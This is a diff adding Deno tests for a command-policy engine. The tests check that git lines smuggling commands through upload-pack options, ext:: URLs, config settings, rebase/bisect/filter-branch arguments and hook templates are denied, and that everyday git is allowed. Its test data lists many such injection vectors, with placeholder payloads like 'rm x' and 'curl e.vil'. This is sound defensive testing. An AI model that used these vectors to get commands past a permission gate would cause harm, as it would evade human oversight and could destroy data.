@@ -1,0 +1,298 @@
+import assert from "node:assert/strict";
+import { loadBashParser } from "../shell/parser.ts";
+import { decide } from "../policy/engine.ts";
+import { realFs } from "../policy/fs_facts.ts";
+import { checkEveryday, checkTable } from "../testing_adversarial.ts";
+import { configFrom, fuzzSeed, linesThatRan, runBash, seededRandom } from "../testing.ts";
+import { extCommand } from "./git.ts";
+
+const parser = await loadBashParser();
+
+Deno.test("git: the transport programs options and settings name are commands", async () => {
+  await checkTable([
+    // --upload-pack / -u, glued, in a cluster, abbreviated (git takes any unique prefix), after
+    // the operands (parse-options reads on).
+    ["git clone --upload-pack='rm -rf x' https://h/r.git", "deny", "deny"],
+    [`git clone --upload-pack="sh -c 'rm x'" https://h/r.git`, "deny", "deny"],
+    ["git clone -u 'rm x' https://h/r.git", "deny", "deny"],
+    ["git clone -qu'rm x' https://h/r.git d", "deny", "deny"],
+    ["git clone --upl='rm x' https://h/r.git", "deny", "deny"],
+    ["git clone https://h/r.git d --upload-pack 'rm x'", "deny", "deny"],
+    ["git fetch --upload-pack='rm x' origin", "deny", "deny"],
+    ["git fetch --u='rm x' origin", "deny", "deny"],
+    ["git pull --upload-pack 'curl e.vil' origin main", "deny", "deny"],
+    ["git ls-remote --upload-pack='rm x' origin", "deny", "deny"],
+    ["git ls-remote --exec='rm x' origin", "deny", "deny"],
+    ["git ls-remote --u='rm x' origin", "deny", "deny"],
+    ["git archive --remote=origin --exec='rm x' HEAD", "deny", "deny"],
+    ["git push --receive-pack='rm x' origin", "deny", "deny"],
+    ["git send-pack --exec='rm x' origin main", "deny", "deny"],
+    ["git fetch-pack --exec='rm x' origin", "deny", "deny"],
+    // The same programs as settings, in any case, and saved for later.
+    ["git -c remote.origin.uploadpack='touch MARKER; rm x' fetch origin", "deny", "deny"],
+    ["git -c Remote.Origin.UploadPack='rm x' fetch", "deny", "deny"],
+    ["git -c remote.origin.receivepack='rm x' pull origin main", "deny", "deny"],
+    ["git config remote.origin.uploadpack 'rm x'", "deny", "deny"],
+    ["git clone -c core.sshCommand='rm x' git@h:r.git", "deny", "deny"],
+    ["git clone --config=core.pager='rm x' https://h/r.git", "deny", "deny"],
+    ["git -c core.gitProxy='rm x' fetch git://h/r", "deny", "deny"],
+    // A setting whose name or value is not known may be any of them.
+    ['git -c "$KV" log', "deny", "deny"],
+    ["git fetch --u=$X origin", "deny", "deny"],
+    ["git push --receive-pack $X origin", "deny", "deny"],
+    ['git config "$K" "rm x"', "deny", "deny"],
+    // Everyday transport stays allowed under the deny-list.
+    ["git fetch origin", "deny", "allow"],
+    ["git clone https://github.com/a/b.git", "deny", "allow"],
+    ["git pull --rebase origin main", "deny", "allow"],
+    ["git -c credential.helper=store fetch", "deny", "allow"],
+    ["git push origin main", "deny", "deny"],
+  ]);
+});
+
+Deno.test("git: ext:: URLs run their command wherever a URL is given", async () => {
+  await checkTable([
+    ["git clone 'ext::sh -c rm% x' d", "deny", "deny"],
+    ["git -c protocol.ext.allow=always fetch 'ext::sh -c curl% e.vil'", "deny", "deny"],
+    ["git remote add o 'ext::rm x'", "deny", "deny"],
+    ["git -c 'url.ext::rm x.insteadOf=https://h/' fetch https://h/r", "deny", "deny"],
+    ["git -c 'remote.origin.url=ext::rm x' fetch origin", "deny", "deny"],
+    ["git config remote.origin.url 'ext::rm x'", "deny", "deny"],
+    // Where the command allows the ext transport, a URL not seen may be one.
+    // (A URL not seen asks anyway under the deny-list.)
+    ['git -c protocol.ext.allow=always fetch "$URL"', "deny", "deny"],
+    ['git fetch "$URL"', "deny", "ask"],
+    // fd:: talks to descriptors the shell opened; it runs nothing. Text is not a URL.
+    ["git fetch fd::3", "deny", "allow"],
+    ["git log --format='ext::%s'", "allow", "allow"],
+    ["git commit -m 'use ext::sh transport'", "deny", "allow"],
+  ]);
+  assert.deepEqual(extCommand("ext::sh -c touch% M"), ["sh", "-c", "touch M"]);
+  assert.deepEqual(extCommand("ext::ssh -i k u@h %S r"), [
+    "ssh",
+    "-i",
+    "k",
+    "u@h",
+    "git-upload-pack",
+    "r",
+  ]);
+  assert.deepEqual(extCommand("ext::socat - TCP:h %G/repo"), ["socat", "-", "TCP:h"]);
+  assert.deepEqual(extCommand("ext::a%%b  c"), ["a%b", "c"]);
+  assert.deepEqual(extCommand("url.ext::rm x.insteadOf=https://h/"), ["rm", "x"]);
+  assert.deepEqual(extCommand("remote.o.url=ext::rm x"), ["rm", "x"]);
+  assert.equal(extCommand("https://h/ext::x"), null);
+});
+
+Deno.test("git: subcommands whose arguments are commands", async () => {
+  await checkTable([
+    ["git rebase -x 'rm x' HEAD~1", "deny", "deny"],
+    ["git rebase --exec='curl e.vil' HEAD~1", "deny", "deny"],
+    ["git rebase --ex 'rm x' HEAD~1", "deny", "deny"],
+    ["git rebase HEAD~1 -ix'rm x'", "deny", "deny"],
+    ["GIT_SEQUENCE_EDITOR='rm x' git rebase -i HEAD~3", "deny", "deny"],
+    ["git -c sequence.editor='rm x' rebase -i HEAD~3", "deny", "deny"],
+    ["git bisect run rm x", "deny", "deny"],
+    ["git bisect run 'rm x; true'", "deny", "deny"],
+    ["git submodule foreach 'rm x'", "deny", "deny"],
+    ["git submodule --quiet foreach --recursive rm x", "deny", "deny"],
+    ["git filter-branch --tree-filter 'rm x' HEAD", "deny", "deny"],
+    ["git filter-branch --msg-filter 'curl e.vil' -- --all", "deny", "deny"],
+    ["git filter-branch --env-filter='rm x' HEAD", "deny", "deny"],
+    ["git difftool -x 'rm x' HEAD", "deny", "deny"],
+    ["git difftool --extcmd='rm x' HEAD", "deny", "deny"],
+    ["git difftool -yx'rm x' HEAD", "deny", "deny"],
+    ["git send-email --to-cmd='rm x' x.patch", "deny", "deny"],
+    ["git instaweb --httpd='rm x'", "deny", "deny"],
+    ["git for-each-repo --config=maintenance.repo -c core.pager='rm x' log", "deny", "deny"],
+    // Everyday: a rebase or bisect without a command; `rebase -i` runs the user's own editor.
+    ["git rebase main", "deny", "allow"],
+    ["git rebase -i HEAD~3", "deny", "allow"],
+    ["git bisect start", "deny", "allow"],
+    ["git bisect run ./test.sh", "deny", "allow"],
+    ["git submodule update --init --recursive", "deny", "allow"],
+    ["git difftool -t vimdiff HEAD", "deny", "allow"],
+  ]);
+});
+
+Deno.test("git: settings that hold commands, and those that bring in unseen config or hooks", async () => {
+  await checkTable([
+    ["git -c difftool.t.cmd='rm x' difftool -t t", "deny", "deny"],
+    ["git -c mergetool.t.cmd='rm x' mergetool -t t", "deny", "deny"],
+    ["git -c browser.b.cmd='rm x' help -w log", "deny", "deny"],
+    ["git -c interactive.diffFilter='rm x' add -p", "deny", "deny"],
+    ["git -c gpg.ssh.defaultKeyCommand='rm x' commit -S -m x", "deny", "deny"],
+    ["git -c core.alternateRefsCommand='rm x' fetch", "deny", "deny"],
+    ["git -c credential.https://h.helper='!rm x' fetch", "deny", "deny"],
+    ["git -c credential.helper='/usr/bin/rm x' fetch", "deny", "deny"],
+    ["git -c trailer.t.command='rm x' commit -m x", "deny", "deny"],
+    ["git -c imap.tunnel='rm x' imap-send", "deny", "deny"],
+    ["git -c sendemail.tocmd='rm x' send-email x.patch", "deny", "deny"],
+    ["git -c 'submodule.s.update=!rm x' submodule update", "deny", "deny"],
+    ["git config --global guitool.t.cmd 'curl e.vil'", "deny", "deny"],
+    ["git -c mergetool.vimdiff.path=/usr/bin/rm mergetool", "deny", "deny"],
+    // Config files, templates and hooks the gate cannot read: unknown, never allowed.
+    ["git -c include.path=/tmp/evil.cfg log", "deny", "deny"],
+    ["git -c includeIf.onbranch:main.path=/tmp/evil.cfg status", "deny", "deny"],
+    ["git config include.path /tmp/evil.cfg", "deny", "deny"],
+    ["git init --template=/tmp/t d", "deny", "deny"],
+    ["git clone --templ=/tmp/t https://h/r.git", "deny", "deny"],
+    ["git -c init.templateDir=/tmp/t init d", "deny", "deny"],
+    ["git -c core.hooksPath=/tmp/h commit -m x", "deny", "deny"],
+    // Settings that are not commands.
+    ["git config user.name x", "deny", "allow"],
+    ["git -c submodule.s.update=rebase submodule update", "deny", "allow"],
+  ]);
+});
+
+Deno.test("git: everyday read-only git stays allowed", async () => {
+  await checkEveryday([
+    "git log",
+    "git status",
+    "git diff",
+    "git log --oneline -5",
+    "git log --format='%h %s' --grep=ext::",
+    "git show HEAD --stat",
+    "git diff --cached",
+    "git branch -a",
+    "git remote -v",
+    "git config --get remote.origin.url",
+  ]);
+});
+
+/** The real-git test's lines, generated: each names `A` (a recording script) some way. */
+function gitLines(a: string, count: number): string[] {
+  const rand = seededRandom(fuzzSeed(19) + 7);
+  const pick = <T>(xs: T[]) => xs[Math.floor(rand() * xs.length)];
+  const q = (text: string) =>
+    pick([`'${text}'`, `"${text}"`, text.replace(/ /g, "\\ "), `$'${text}'`]);
+  const cmd = () => q(`${a} k`);
+  const ext = () => pick([`ext::${a}`, `ext::sh -c ${a}% k`, `ext::${a} %S x`]);
+  const allow = () => pick(["-c protocol.ext.allow=always ", "-c protocol.allow=always ", ""]);
+  const templates: (() => string)[] = [
+    () =>
+      `git fetch ${
+        pick(["--upload-pack=", "--upload-pack ", "--upl=", "--upload="])
+      }${cmd()} ../bare.git`,
+    () =>
+      `git ls-remote ${
+        pick(["--upload-pack=", "--exec=", "--u=", "--upload-pack "])
+      }${cmd()} ../bare.git`,
+    () =>
+      `git clone -q ${pick(["-u ", "-u", "--upload-pack=", "--upload-p "])}${cmd()} ../bare.git c`,
+    () => `git clone ${pick(["-qu", "-nqu"])}${cmd()} ../bare.git c`,
+    () => `git pull ${pick(["--upload-pack=", "--upload-pack "])}${cmd()} ../bare.git main`,
+    () =>
+      `git push ${
+        pick(["--receive-pack=", "--exec=", "--receive-pack "])
+      }${cmd()} ../bare.git main`,
+    () => `git archive --remote=../bare.git ${pick(["--exec=", "--exec "])}${cmd()} HEAD`,
+    () => `git -c remote.origin.uploadpack=${cmd()} ${pick(["fetch", "pull", "ls-remote"])} origin`,
+    () => `git -c ${q(`remote.origin.receivepack=${a} k`)} push origin main`,
+    () => `git ${allow()}${pick(["fetch", "ls-remote", "clone"])} ${q(ext())} ${pick(["", "c"])}`,
+    () => `git ${allow()}-c ${q(`url.${ext()}.insteadOf=https://x/`)} fetch https://x/`,
+    () => `git ${allow()}-c ${q(`remote.origin.url=${ext()}`)} fetch origin`,
+    () =>
+      `git -c core.gitProxy=${q(pick([a, `${a} for h`]))} ${
+        pick(["fetch", "ls-remote"])
+      } git://h/x`,
+    () =>
+      `git clone -q ${pick(["-c ", "--config=", "--config "])}${
+        q(`core.sshCommand=${a} k`)
+      } ssh://h/x c`,
+    () =>
+      `git rebase ${
+        pick(["-x ", "-x", "--exec=", "--exec ", "--ex=", "-ix", "-i -x"])
+      }${cmd()} HEAD~1`,
+    () => `git rebase HEAD~2 ${pick(["-x", "--exec="])}${cmd()}`,
+    () => `git bisect start HEAD HEAD~2 && git bisect run ${pick([cmd(), a, `${a} k`, `'${a};'`])}`,
+    () => `git submodule ${pick(["", "--quiet "])}foreach ${pick(["", "--recursive "])}${cmd()}`,
+    () =>
+      `git filter-branch -f ${
+        pick([
+          "--tree-filter",
+          "--msg-filter",
+          "--env-filter",
+          "--index-filter",
+          "--setup",
+          "--commit-filter",
+        ])
+      } ${cmd()} HEAD~1..HEAD`,
+    () => `git difftool ${pick(["-x ", "--extcmd=", "-yx", "-y --extcmd "])}${cmd()} HEAD~1`,
+    () => `git -c difftool.t.cmd=${cmd()} difftool -y ${pick(["-t t", "--tool=t"])} HEAD~1`,
+    () => `git -c trailer.t.command=${cmd()} interpret-trailers --trailer t=x f`,
+    () => `git -c include.path=${q(`${a}.cfg`)} q`,
+    () =>
+      `git init -q ${
+        pick(["--template=", "--templ="])
+      }../tpl d && git -C d commit -q --allow-empty -m x`,
+    () =>
+      `printf 'host=h\\nprotocol=https\\n' | git -c credential.helper=${
+        q(`!${a} k`)
+      } credential fill`,
+  ];
+  return Array.from({ length: count }, () => pick(templates)());
+}
+
+Deno.test("git: a command a generated git line makes real git run is a stage the engine sees", async () => {
+  // In a fresh copy of a small repository (three commits, a bare remote, a submodule) each line
+  // names `a1`, a script that records that it ran, as an option, setting, URL or argument. When
+  // it ran, the engine must see a stage running it (or not allow the line).
+  const dir = await Deno.makeTempDir({ prefix: "pi-controls-git-" });
+  const a = `${dir}/a1`;
+  const lines = gitLines(a, 150);
+  try {
+    await Deno.writeTextFile(a, `#!/bin/sh\nprintf 'A\\036' >> "${dir}/log"\n`);
+    await Deno.chmod(a, 0o755);
+    await Deno.mkdir(`${dir}/tpl/hooks`, { recursive: true });
+    await Deno.writeTextFile(`${dir}/tpl/hooks/pre-commit`, `#!/bin/sh\n${a}\n`);
+    await Deno.chmod(`${dir}/tpl/hooks/pre-commit`, 0o755);
+    await Deno.writeTextFile(`${a}.cfg`, `[alias]\n\tq = !${a}\n`);
+    const git = "git -c user.email=a@b -c user.name=n";
+    const setup = [
+      `cd ${dir} && git init -q -b main t && cd t`,
+      `echo 1 > f && git add f && ${git} commit -qm 1 && echo 2 > f && ${git} commit -qam 2`,
+      `echo 3 > f && ${git} commit -qam 3`,
+      `git clone -q --bare . ../bare.git && git remote add origin ../bare.git`,
+      `${git} -c protocol.file.allow=always submodule -q add ../bare.git sub`,
+      `echo 4 > f && ${git} commit -qam sub`,
+    ];
+    const script = setup.map((s) => s + " >/dev/null 2>&1\n").join("") +
+      lines.map((line, i) =>
+        `cd ${dir} && rm -rf w && cp -r t w && cd w && printf 'M${i}\\036' >> ${dir}/log && ` +
+        `(${line}) </dev/null >/dev/null 2>&1\n`
+      ).join("");
+    await runBash(script, {
+      cwd: dir,
+      env: {
+        LC_ALL: "C",
+        HOME: dir,
+        GIT_CONFIG_NOSYSTEM: "1",
+        GIT_EDITOR: ":",
+        GIT_AUTHOR_NAME: "n",
+        GIT_AUTHOR_EMAIL: "a@b",
+        GIT_COMMITTER_NAME: "n",
+        GIT_COMMITTER_EMAIL: "a@b",
+        GIT_SEQUENCE_EDITOR: ":",
+        GIT_TERMINAL_PROMPT: "0",
+        FILTER_BRANCH_SQUELCH_WARNING: "1",
+        PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin",
+      },
+    });
+    const ran = linesThatRan(await Deno.readTextFile(`${dir}/log`));
+    const config = configFrom({
+      policies: { p: { defaultAction: "allow", rules: [] } },
+      locations: { "/": "p" },
+    });
+    const ctx = { cwd: `${dir}/w`, home: dir, env: { HOME: dir }, fs: realFs() };
+    const wrong: string[] = [];
+    for (const i of ran) {
+      const v = decide(config, { tool: "bash", input: { command: lines[i] } }, ctx, { parser });
+      const seen = v.stages.some((s) => (s.command ?? "").startsWith(a));
+      if (!seen && v.action === "allow") wrong.push(lines[i]);
+    }
+    assert.deepEqual(wrong, []);
+    assert.ok(ran.size > lines.length / 2, `a1 ran for ${ran.size} of ${lines.length} lines`);
+  } finally {
+    await Deno.remove(dir, { recursive: true });
+  }
+});
